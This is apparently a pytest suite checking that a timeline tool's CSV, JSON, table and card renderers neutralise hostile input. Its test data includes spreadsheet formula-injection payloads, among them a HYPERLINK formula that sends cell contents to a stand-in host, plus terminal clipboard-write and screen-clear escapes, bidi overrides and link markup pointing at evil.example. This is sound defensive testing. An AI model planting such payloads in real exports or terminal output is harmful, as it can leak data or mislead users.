from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.conftest import FIXTURES, HOSTILE, SMALL, everything

from timeline.document import dumps
from timeline.model import Log
from timeline.query import find_event
from timeline.render.card import card_content, write_card_text
from timeline.render.card_rich import write_card_rich
from timeline.render.delimited import csv_line, defuse, event_line, undefuse, write_csv
from timeline.render.jsondoc import write_json, write_jsonl
from timeline.render.phrases import compact, interval, spelled
from timeline.render.records import COLUMNS, as_cells
from timeline.render.sanitize import for_terminal, one_line
from timeline.render.table import write_table
from timeline.render.tsv import write_tsv
from timeline.store import load_log

RAW_CONTROL = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), 0x7F, *range(0x80, 0xA0)]]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


def assert_terminal_safe(text: str) -> None:
    for char in RAW_CONTROL + BIDI:
        assert char not in text, f"raw {char!r} in output"


def test_for_terminal_makes_escapes_visible() -> None:
    cleaned = for_terminal("x\x1b]52;c;aGk=\x07y\x1b[2J\r\u202e\x9b")
    assert cleaned == "x\\x1b]52;c;aGk=\\x07y\\x1b[2J\\x0d\\u202e\\x9b"
    assert_terminal_safe(cleaned)


def test_for_terminal_keeps_ordinary_text_tabs_newlines_and_rtl_letters() -> None:
    text = "Café 東京\tok\nשלום مرحبا \u200f"
    assert for_terminal(text) == text


def test_one_line_also_escapes_tabs_and_newlines() -> None:
    assert one_line("a\tb\nc") == "a\\tb\\nc"


def test_a_lone_surrogate_is_shown_not_crashed_on() -> None:
    assert for_terminal("a\ud800b") == "a\\ud800b"


@pytest.mark.parametrize(
    "payload",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1",
        "'quoted",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        '=HYPERLINK("http://x.invalid","c")',
        "-0108/-0107",
        "-1.5e3",
        "-1.",
        "-١٢",
    ],
)
def test_formula_cells_get_a_leading_apostrophe_that_undefuse_removes(payload: str) -> None:
    assert defuse(payload) == "'" + payload
    assert undefuse(defuse(payload)) == payload


@pytest.mark.parametrize(
    "plain", ["", "Hanoi", "2019-02-27", "a=b", "1+1", " =1", "-157.858", "-1", "35.79"]
)
def test_ordinary_cells_are_untouched(plain: str) -> None:
    assert defuse(plain) == plain


CELL = st.text(st.sampled_from(['"', ",", "\r", "\n", "\0", " ", "'", "a", "é", "\u2028", "="]))


@given(st.lists(CELL, min_size=1, max_size=6))
def test_a_csv_line_is_what_the_csv_module_writes(cells: list[str]) -> None:
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\r\n").writerow(cells)
    assert csv_line(cells) == expected.getvalue()
    assert next(csv.reader(io.StringIO(csv_line(cells), newline=""))) == cells


@pytest.mark.parametrize("path", [HOSTILE, SMALL, FIXTURES / "everything.json"])
def test_an_event_line_is_the_csv_line_of_its_defused_cells(path: Path) -> None:
    log = load_log(path)
    selection = everything(log)
    for event in log.events:
        cells = as_cells(event, selection)
        assert event_line(event, selection) == csv_line([defuse(cell) for cell in cells])


def test_csv_has_a_lowercase_header_and_one_row_per_event() -> None:
    log = load_log(SMALL)
    out = io.StringIO()
    write_csv(everything(log), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(rows[0]) == list(COLUMNS)
    assert all(name == name.lower() for name in COLUMNS)
    assert [r["id"] for r in rows] == [e.id for e in log.events]
    hanoi = next(r for r in rows if r["id"] == "hanoi-2019")
    assert (
        hanoi["summary"]
        == 'Talks broke down over sanctions relief, "Yongbyon", and sequencing.\nNo joint statement.'
    )
    assert (hanoi["date"], hanoi["end"], hanoi["earliest"], hanoi["latest"]) == (
        "2019-02-27",
        "2019-02-28",
        "2019-02-27",
        "2019-02-28",
    )
    assert hanoi["actor_names"] == "North Korea; United States; Kim Jong Un; Donald Trump"
    assert hanoi["plover"] == "CONSULT"
    assert hanoi["source_urls"] == "https://example.org/2019/02/28/hanoi"
    arms = next(r for r in rows if r["id"] == "arms-2023")
    assert arms["actors"] == "DPRK (supplier); RUS (recipient)"
    assert arms["approximate"] == "true"
    assert arms["related"] == "launches-2022 (context)"


def test_csv_of_the_hostile_log_has_no_live_formula_and_raw_keeps_them() -> None:
    log = load_log(HOSTILE)
    safe, raw = io.StringIO(), io.StringIO()
    write_csv(everything(log), safe)
    write_csv(everything(log), raw, raw=True)
    cells = [cell for row in csv.reader(io.StringIO(safe.getvalue())) for cell in row]
    assert not [c for c in cells if c[:1] in set("=+-@\t\r\n＝＋－＠")]
    assert '\'=HYPERLINK("http://x.invalid/?"&A1,"source")' in cells
    raw_cells = [cell for row in csv.reader(io.StringIO(raw.getvalue())) for cell in row]
    assert '=HYPERLINK("http://x.invalid/?"&A1,"source")' in raw_cells


def test_json_keeps_values_exactly_and_escapes_terminal_controls() -> None:
    log = load_log(HOSTILE)
    out = io.StringIO()
    write_json(everything(log), out)
    text = out.getvalue()
    assert_terminal_safe(text)
    assert [e["title"] for e in json.loads(text)] == [e.title for e in log.events]
    assert dumps("\u2028\u202e") == '"\\u2028\\u202e"'


def test_jsonl_is_one_event_per_line() -> None:
    log = load_log(SMALL)
    out = io.StringIO()
    write_jsonl(everything(log), out)
    lines = out.getvalue().splitlines()
    assert [json.loads(line)["id"] for line in lines] == [e.id for e in log.events]


def test_json_of_no_events_is_an_empty_array() -> None:
    out = io.StringIO()
    write_json(everything(load_log(SMALL), []), out)
    assert json.loads(out.getvalue()) == []


def test_dates_are_shown_at_their_precision() -> None:
    log = load_log(SMALL)
    by_id = log.events_by_id
    assert [
        compact(by_id[i]) for i in ("hanoi-2019", "launches-2022", "arms-2023", "drill-2023")
    ] == [
        "2019-02-27–28",
        "2022",
        "2023-09~ – 2024-06~",
        "2023-08",
    ]
    assert interval(by_id["arms-2023"]) == "2023-09~/2024-06~"
    assert spelled(by_id["launches-2022"]) == "2022"
    assert spelled(by_id["arms-2023"]) == "about September 2023 – June 2024"
    assert spelled(by_id["hanoi-2019"]) == "27–28 February 2019"


def test_tsv_lines_are_plain_and_complete() -> None:
    log = load_log(SMALL)
    out = io.StringIO()
    write_tsv(everything(log, log.events[:2]), out)
    assert out.getvalue().splitlines()[1] == (
        "2019-02-27/2019-02-28\thanoi-2019\tHanoi summit ends without agreement"
        "\tDPRK,USA,kim-jong-un,donald-trump\tsummit"
    )


def cards(log: Log, event_id: str) -> tuple[str, str]:
    """The card of one event as plain text and as Rich lays it out off a terminal."""
    event = find_event(log, event_id)
    content = card_content(event, everything(log, [event]))
    plain, rich = io.StringIO(), io.StringIO()
    write_card_text(content, plain)
    write_card_rich(content, rich)
    return plain.getvalue(), rich.getvalue()


@pytest.mark.parametrize("event_id", ["hanoi-2019", "arms-2023", "drill-2023", "launches-2022"])
def test_the_plain_card_and_the_rich_card_agree(event_id: str) -> None:
    plain, rich = cards(load_log(SMALL), event_id)
    assert plain == rich


def test_hostile_text_in_table_and_card_is_visible_and_inert() -> None:
    log = load_log(HOSTILE)
    table = io.StringIO()
    write_table(everything(log), table)
    assert (
        "[link=https://evil.example]x[/link] [bold]B closing [/Pattern] tag :smile:"
        in table.getvalue()
    )
    assert "\\x1b[2J" in table.getvalue()
    assert_terminal_safe(table.getvalue())
    for event in log.events:
        for card in cards(log, event.id):
            assert_terminal_safe(card)
            assert "\x1b]8;" not in card
    plain, rich = cards(log, "escapes")
    assert plain == rich
    assert "\\x1b]52;c;aGVsbG8=\\x07" in plain
    assert "Agent \\u202eevil\\u202c :smile:" in plain
